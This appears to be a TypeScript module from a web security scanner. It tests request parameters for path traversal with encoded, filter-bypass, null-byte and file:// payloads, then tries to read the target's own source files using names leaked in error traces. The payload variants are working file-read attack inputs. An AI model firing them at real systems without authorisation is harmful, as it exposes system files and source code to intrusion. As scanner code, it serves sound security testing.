import type { Evidence } from "../finding.ts";
import { type Lab, type Point, type Shot, twice } from "../lab.ts";
import { textOf } from "../../probing/operation.ts";
import { type PointAttack, systemFiles } from "./attack.ts";

const up = "../".repeat(10);
const ways: readonly ((file: string, value: string) => string)[] = [
  (file) => `${up}${file.slice(1)}`,
  (file) => file,
  (file) => `${"....//".repeat(10)}${file.slice(1)}`,
  (file) => `${"..%2f".repeat(10)}${file.slice(1)}`,
  (file) => `${"%2e%2e/".repeat(10)}${file.slice(1)}`,
  (file, value) => `${value}/${up}${file.slice(1)}`,
  (file) => `${up}${file.slice(1)}\0.png`,
  (file) => `file://${file}`,
];

/** Files outside the folder; then the program's own, whose names its stack traces gave away. */
export const files: PointAttack = {
  id: "files",
  run: async (point, lab) => {
    const value = textOf(point.parameter.value);
    for (const way of ways) {
      const found = await twice<Shot>(async (round) => {
        const file = systemFiles[round];
        if (point.baseline !== null && file.sign.test(point.baseline.body)) return null;
        const shot = await lab.shoot(point, way(file.path, value));
        if (shot === null || !file.sign.test(shot.answer.body)) return null;
        return { says: `the answer is ${file.path}`, shot };
      });
      if (found === null) continue;
      const read: Evidence = {
        rule: "path-traversal",
        technique: "file",
        evidence: found.says,
        replay: found.shot.request,
      };
      return [read, ...(await ownSource(point, lab))];
    }
    return [];
  },
};

const signsOfSource = [
  /^\s{0,20}(import|from) [\w.]+/m,
  /^\s{0,20}def \w+\(/m,
  /\brequire\(["']/,
  /^\s{0,20}(async )?function \w+\(/m,
  /^\s{0,20}(export )?class \w+/m,
  /<\?php/,
  /^package [\w.]+;/m,
  /#!\/usr\/bin\/env/,
];

async function ownSource(point: Point, lab: Lab): Promise<readonly Evidence[]> {
  for (const file of [...lab.namedFiles].slice(0, 8)) {
    const name = file.split("/").at(-1) ?? file;
    for (const path of [file, name, `${up}${file.slice(1)}`]) {
      const found = await twice<Shot>(async (round) => {
        const shot = await lab.shoot(point, path);
        if (shot === null || shot.answer.status !== 200) return null;
        const signs = signsOfSource.filter((sign) => sign.test(shot.answer.body)).length;
        const says = [`${name}, which an error named, can be read`, `it reads as source code does`];
        return signs >= 2 ? { says: says[round] ?? "", shot } : null;
      });
      if (found !== null) {
        return [
          {
            rule: "source-disclosure",
            technique: "file",
            evidence: found.says,
            replay: found.shot.request,
          },
        ];
      }
    }
  }
  return [];
}
